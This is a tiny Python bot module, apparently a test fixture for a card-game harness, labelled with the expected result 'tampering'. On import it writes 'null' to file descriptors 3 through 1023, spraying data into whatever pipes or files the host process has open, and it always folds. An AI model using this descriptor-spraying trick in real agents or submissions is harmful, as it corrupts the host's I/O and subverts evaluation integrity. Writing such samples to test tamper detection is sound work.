"""Says that it has loaded by null.

Verdict: tampering
"""

import contextlib
import os

for number in range(3, 1024):
    with contextlib.suppress(OSError):
        os.write(number, b"null\n")


def move(card):
    return "fold"
